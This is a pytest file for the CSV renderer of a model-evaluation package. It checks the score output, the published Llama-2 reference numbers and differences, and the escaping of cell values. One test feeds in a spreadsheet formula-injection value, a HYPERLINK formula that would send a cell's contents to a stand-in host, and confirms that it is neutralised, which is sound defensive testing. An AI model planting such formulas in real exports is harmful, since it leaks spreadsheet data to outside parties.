"""The numbers as CSV, and the published ones beside them only where asked for."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from s2eval import store
from s2eval.errors import UnknownNameError
from s2eval.records import Row
from s2eval.report.render.csv import render_csv

ROW = Row("a", "a", None, "s2_eli5", "", "", "", "s2_rouge1", 0.38, None, None, None, 100, 100, "0")
ROWS = [
    ROW,
    replace(ROW, task="s2_wiki", metric="s2_rouge2", value=None),
    replace(ROW, task="s2_arc_challenge", metric="leaderboard_pct", value=50.0),
    replace(ROW, task="s2_mmlu", metric="leaderboard_pct", subset="virology", value=50.0),
    replace(ROW, task="s2demo_eli5"),
    replace(ROW, task="s2_mtsbench", judge="j", turn="1", metric="s2_judge_score", value=5.0),
    replace(ROW, task="s2_mtsbench", turn="1", metric="s2_fre_corpus_2023", value=60.0),
    replace(ROW, model="b"),
]


def written(rows: list[Row], references: dict[str, str] | None) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(render_csv(rows, references))))


def test_without_references_it_is_scores_csv() -> None:
    scores = io.StringIO()
    store.print_scores(scores, ROWS)
    assert render_csv(ROWS) == scores.getvalue()


def test_published_numbers_and_differences() -> None:
    found = [tuple(line[name] for name in ("published", "difference")) for line in written(ROWS, {"a": "Llama-2-7b"})]
    assert found[0] == ("0.3796", str(0.38 - 0.3796))
    assert found[1][0]
    assert not found[1][1]  # nothing measured
    assert found[2] == ("53.07", str(50 - 53.07))
    assert found[3] == ("", "")  # a subject
    assert found[4] == ("", "")  # the demonstration's data
    assert found[7] == ("", "")  # names no row of the paper
    chat = [line["published"] for line in written(ROWS, {"a": "Llama-2-7b-chat"})]
    assert chat[5:7] == ["9.40", "42.21"]


def test_an_unknown_row_is_an_error() -> None:
    with pytest.raises(UnknownNameError, match="Llama-2-7b"):
        written(ROWS, {"a": "Llama-2-7B"})


def test_names_are_no_formulas() -> None:
    """With and without published numbers, which stay as they are printed."""
    name = '=HYPERLINK("http://x.example/?"&A1)'
    for references in (None, {}, {name: "Llama-2-7b"}):
        [line] = written([replace(ROW, model=name, group="@x", value=-1.5)], references)
        assert (line["model"], line["group"], line["value"]) == (f"'{name}", "'@x", "-1.5")
    assert (line["published"], line["difference"]) == ("0.3796", str(-1.5 - 0.3796))
